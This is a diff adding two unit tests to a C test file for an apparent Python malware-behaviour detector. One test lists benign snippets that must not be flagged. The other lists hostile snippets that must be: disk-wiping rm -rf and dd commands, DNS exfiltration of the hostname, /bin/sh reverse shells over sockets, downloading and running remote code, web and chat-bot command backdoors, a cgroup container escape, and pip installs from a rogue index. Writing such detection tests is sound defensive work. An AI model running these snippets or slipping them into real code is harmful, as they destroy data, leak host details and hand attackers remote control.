@@ -432,6 +432,93 @@ static void ordinary(void)
 	CHECK(is_ordinary(""));
 }
 
+/* What the Python of some 2,900 Debian packages was mistaken for. */
+static void not_mistaken(void)
+{
+	CHECK(is_ordinary("try:\n  import dns\nexcept ImportError:\n"
+			  "  print('please install dnspython')"));
+	CHECK(is_ordinary("FIELDS = ['_link_password_value']"));
+	CHECK(is_ordinary("import os\nos.system('rm -rf /tmp/build')"));
+	CHECK(is_ordinary("import os\nos.system('dd if=/dev/zero of=disk.img')"));
+	CHECK(is_ordinary("label('Bitcoin address')"));
+	CHECK(is_ordinary("print('Your files have not been saved.')"));
+	CHECK(is_ordinary("import socket\n"
+			  "a = socket.gethostbyname(socket.gethostname())"));
+	CHECK(is_ordinary("import os, shutil\nd = os.path.dirname(__file__)\n"
+			  "shutil.copy(os.path.join(d, 'x.conf'), etc)\n"
+			  "os.remove(os.path.join(d, 'y'))"));
+	CHECK(is_ordinary("m = __import__('plugin_' + 'text')"));
+	CHECK(is_ordinary("import socket, subprocess\ns = socket.socket()\n"
+			  "port = s.getsockname()[1]\n"
+			  "subprocess.Popen(['serve', '--port', str(port)])"));
+	CHECK(is_ordinary("import requests, subprocess\n"
+			  "v = requests.get(u).json()['version']\n"
+			  "subprocess.run(['git', 'checkout', v])"));
+	CHECK(is_ordinary("import torch\nwith open('model.pth', 'wb') as f:\n"
+			  "  torch.save(m, f)"));
+	CHECK(is_ordinary("from flask import request\nimport os\n"
+			  "os.system('ping -c 1 ' + request.args['host'])"));
+}
+
+/* What they were mistaken for, as it is. */
+static void but_seen(void)
+{
+	CHECK(shows("x = ['dnspy', 'x64dbg']", MPY_BEH_ANTI_ANALYSIS, 1));
+	CHECK(shows("q = 'select password_value from logins'",
+		    MPY_BEH_BROWSER_THEFT, 1));
+	CHECK(shows("import os\nos.system('rm -rf / ')", MPY_BEH_DESTROY, 2));
+	CHECK(shows("import os\nos.system('rm -rf ~/*')", MPY_BEH_DESTROY, 2));
+	CHECK(shows("import os\nos.system('dd if=/dev/zero of=/dev/sda')",
+		    MPY_BEH_DESTROY, 2));
+	CHECK(shows("open('/dev/nvme0n1', 'wb').write(z)", MPY_BEH_DESTROY, 1));
+	CHECK(shows("import socket\n"
+		    "socket.gethostbyname(socket.gethostname() + '.x.invalid')",
+		    MPY_BEH_DNS_SEND, 2));
+	CHECK(shows("import socket\nh = socket.gethostname()\n"
+		    "socket.gethostbyname(f'{h}.x.invalid')",
+		    MPY_BEH_DNS_SEND, 3));
+	CHECK(shows("import socket\nh = socket.gethostname()\n"
+		    "socket.gethostbyname('%s.x.invalid' % h)",
+		    MPY_BEH_DNS_SEND, 3));
+	CHECK(shows("import socket\nh = socket.gethostname()\n"
+		    "socket.gethostbyname('{}.x.invalid'.format(h))",
+		    MPY_BEH_DNS_SEND, 3));
+	CHECK(shows("import socket\nh = socket.gethostname()\n"
+		    "socket.gethostbyname('.'.join([h, 'x.invalid']))",
+		    MPY_BEH_DNS_SEND, 3));
+	CHECK(shows("import shutil\nshutil.copy(__file__, d)",
+		    MPY_BEH_SELF_COPY, 2));
+	CHECK(shows("m = __import__('o' + 's')", MPY_BEH_HIDDEN_IMPORT, 1));
+	CHECK(shows("import socket, subprocess\ns = socket.socket()\n"
+		    "subprocess.Popen(['/bin/sh'], stdin=s, stdout=s)",
+		    MPY_BEH_REVERSE_SHELL, 3));
+	CHECK(shows("import socket, subprocess\ns = socket.socket()\n"
+		    "subprocess.Popen('sh', 0, None, s, s, s)",
+		    MPY_BEH_REVERSE_SHELL, 3));
+	CHECK(shows("import requests, subprocess\nc = requests.get(u).text\n"
+		    "subprocess.run(['sh', '-c', c])", MPY_BEH_NETWORK_RUN, 3));
+	CHECK(shows("from flask import request\nimport os\n"
+		    "os.popen(request.headers.get('X-C')).read()",
+		    MPY_BEH_WEB_COMMAND, 3));
+	CHECK(shows("import os\ndef app(environ, start):\n"
+		    "  eval(environ.get('HTTP_X_KEY'))",
+		    MPY_BEH_WEB_COMMAND, 3));
+	CHECK(shows("from django.http import HttpResponse\nimport os\n"
+		    "def view(request):\n  os.system(request.GET['c'])",
+		    MPY_BEH_WEB_COMMAND, 4));
+	CHECK(shows("open('/sys/fs/cgroup/x/release_agent', 'w')",
+		    MPY_BEH_ESCAPE, 1));
+	CHECK(shows("from scapy.all import sniff\nsniff(prn=f)",
+		    MPY_BEH_SNIFF, 2));
+	CHECK(shows("import os\nos.system('pip install -i http://x.invalid y')",
+		    MPY_BEH_PIP_INDEX, 2));
+	CHECK(shows("import subprocess, sys\nsubprocess.run([sys.executable, "
+		    "'-m', 'pip', 'install', '--index-url', u, 'y'])",
+		    MPY_BEH_PIP_INDEX, 2));
+	CHECK(shows("import nextcord, os\nasync def on_message(m):\n"
+		    "  os.popen(m.content)", MPY_BEH_CHAT_CONTROL, 3));
+}
+
 static void names_are_complete(void)
 {
 	for (int i = 0; i < MPY_BEH_COUNT; i++) {
@@ -476,6 +563,8 @@ int main(void)
 	RUN(as_files);
 	RUN(told_by_tables);
 	RUN(ordinary);
+	RUN(not_mistaken);
+	RUN(but_seen);
 	RUN(names_are_complete);
 	RUN(counts_lines);
 	return DONE();
